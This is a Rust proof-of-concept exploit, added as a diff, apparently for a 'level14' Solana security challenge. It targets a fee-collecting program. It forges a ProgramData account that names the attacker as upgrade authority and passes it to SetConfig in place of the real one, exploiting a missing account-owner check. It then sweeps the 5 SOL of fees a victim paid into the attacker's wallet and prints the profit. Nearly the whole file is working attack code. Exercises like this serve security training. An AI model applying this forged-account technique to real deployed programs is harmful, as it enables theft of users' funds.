@@ -0,0 +1,155 @@
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+use dryrun::RemoteEnvironment;
+
+use poc_framework::{
+    Environment,
+    solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+        native_token::LAMPORTS_PER_SOL,
+        bpf_loader_upgradeable::{self, UpgradeableLoaderState},
+        sysvar,
+    },
+    solana_sdk::{
+        system_program,
+        signature::{read_keypair_file, Keypair, Signer},
+    },
+};
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum FeeInstruction {
+    SetConfig { treasury: Pubkey },
+    Pay { amount: u64 },
+    Sweep,
+}
+// We use the same Structure created in the Smart Contract
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Config {
+    pub treasury: Pubkey,
+}
+
+pub fn get_config_address(fee_program: Pubkey) -> Pubkey {
+    let (config_address, _) =
+        Pubkey::find_program_address(&[&"CONFIG".as_bytes()], &fee_program);
+    config_address
+}
+
+fn set_config(programa: Pubkey, authority: Pubkey, programdata: Pubkey, treasury: Pubkey) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(get_config_address(programa), false),
+            AccountMeta::new(authority, true),
+            AccountMeta::new_readonly(programdata, false),
+            AccountMeta::new_readonly(sysvar::rent::id(), false),
+            AccountMeta::new_readonly(system_program::id(), false),
+        ],
+        data: FeeInstruction::SetConfig { treasury }.try_to_vec().unwrap(),
+    }
+}
+
+fn sweep(programa: Pubkey, treasury: Pubkey) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(get_config_address(programa), false),
+            AccountMeta::new(treasury, false),
+        ],
+        data: FeeInstruction::Sweep.try_to_vec().unwrap(),
+    }
+}
+
+pub fn main() {
+    let programa_keypair = read_keypair_file("./target/so/level14-keypair.json").unwrap();
+    let programa = programa_keypair.pubkey();
+    // `solana program deploy` makes the CLI wallet the upgrade authority
+    let upgrade_authority =
+        read_keypair_file(format!("{}/.config/solana/id.json", std::env::var("HOME").unwrap())).unwrap();
+    let cliente1 = dryrun::client();
+
+    let mut actors = Actors::new();
+    let hacker = actors.get("hacker");
+    let victim = actors.get("victim");
+    let fake_programdata = Keypair::new();
+    actors.label(fake_programdata.pubkey(), "level14_fake_programdata");
+
+    let config = get_config_address(programa);
+
+    let mut env = RemoteEnvironment::new_with_airdrop(cliente1, actors.get("payer"), 10000000000);
+    println!("{}", actors.legend().blue());
+    env.airdrop(victim.pubkey(), 10 * LAMPORTS_PER_SOL);
+    env.airdrop(hacker.pubkey(), LAMPORTS_PER_SOL);
+
+    let account = env.get_account(programa).expect("couldn't retrieve account");
+    let upgradable: UpgradeableLoaderState = account.deserialize_data().unwrap();
+    let programdata = match upgradable {
+        UpgradeableLoaderState::Program { programdata_address } => programdata_address,
+        _ => panic!("not an upgradeable program"),
+    };
+    let programdata_state: UpgradeableLoaderState =
+        bincode::deserialize(&env.get_account(programdata).unwrap().data).unwrap();
+
+    /* First the real upgrade authority sends the fees to its Treasury, and the victim pays 5 SOL of fees */
+    env.execute_as_transaction(
+        &[set_config(programa, upgrade_authority.pubkey(), programdata, upgrade_authority.pubkey())],
+        &[&upgrade_authority],
+    );
+    env.execute_as_transaction(
+        &[Instruction {
+            program_id: programa,
+            accounts: vec![
+                AccountMeta::new(config, false),
+                AccountMeta::new(victim.pubkey(), true),
+                AccountMeta::new_readonly(system_program::id(), false),
+            ],
+            data: FeeInstruction::Pay { amount: 5 * LAMPORTS_PER_SOL }.try_to_vec().unwrap(),
+        }],
+        &[&victim],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                 INITIALIZING             *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?} {} {:?}", "Real ProgramData: ".bold().blue(), programdata.blue(),
+    "state: ".bold().blue(), programdata_state.blue());
+    println!("{} {:?}", "Config: ".bold().blue(), env.get_deserialized_account::<Config>(config).unwrap().blue());
+    println!("{} {:?}", "Config lamports: ".bold().blue(), env.get_account(config).unwrap().lamports.blue());
+    println!("");
+
+    /* Second we write our own ProgramData naming us as upgrade authority, and pass it instead of the real one */
+    let forged = UpgradeableLoaderState::ProgramData {
+        slot: 0,
+        upgrade_authority_address: Some(hacker.pubkey()),
+    };
+    env.create_account_with_data(&fake_programdata, bincode::serialize(&forged).unwrap());
+
+    let hacker_before = env.get_account(hacker.pubkey()).unwrap().lamports;
+    env.execute_as_transaction(
+        &[
+            set_config(programa, hacker.pubkey(), fake_programdata.pubkey(), hacker.pubkey()),
+            sweep(programa, hacker.pubkey()),
+        ],
+        &[&hacker],
+    );
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*      SET CONFIG WITH FORGED PROGRAMDATA  *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?} {} {:?}", "Forged ProgramData: ".bold().red(), fake_programdata.pubkey().red(),
+    "owner: ".bold().red(), env.get_account(fake_programdata.pubkey()).unwrap().owner.red());
+    println!("{} {:?}", "Is it owned by the upgradeable loader? ".bold().red(),
+    (env.get_account(fake_programdata.pubkey()).unwrap().owner == bpf_loader_upgradeable::id()).red());
+    println!("{} {:?}", "Config: ".bold().red(), env.get_deserialized_account::<Config>(config).unwrap().red());
+    println!("{} {:?}", "Config lamports: ".bold().red(), env.get_account(config).unwrap().lamports.red());
+    println!("{} {:?}", "Hacker earned: ".bold().green(),
+    (env.get_account(hacker.pubkey()).unwrap().lamports - hacker_before).green());
+    println!("");
+}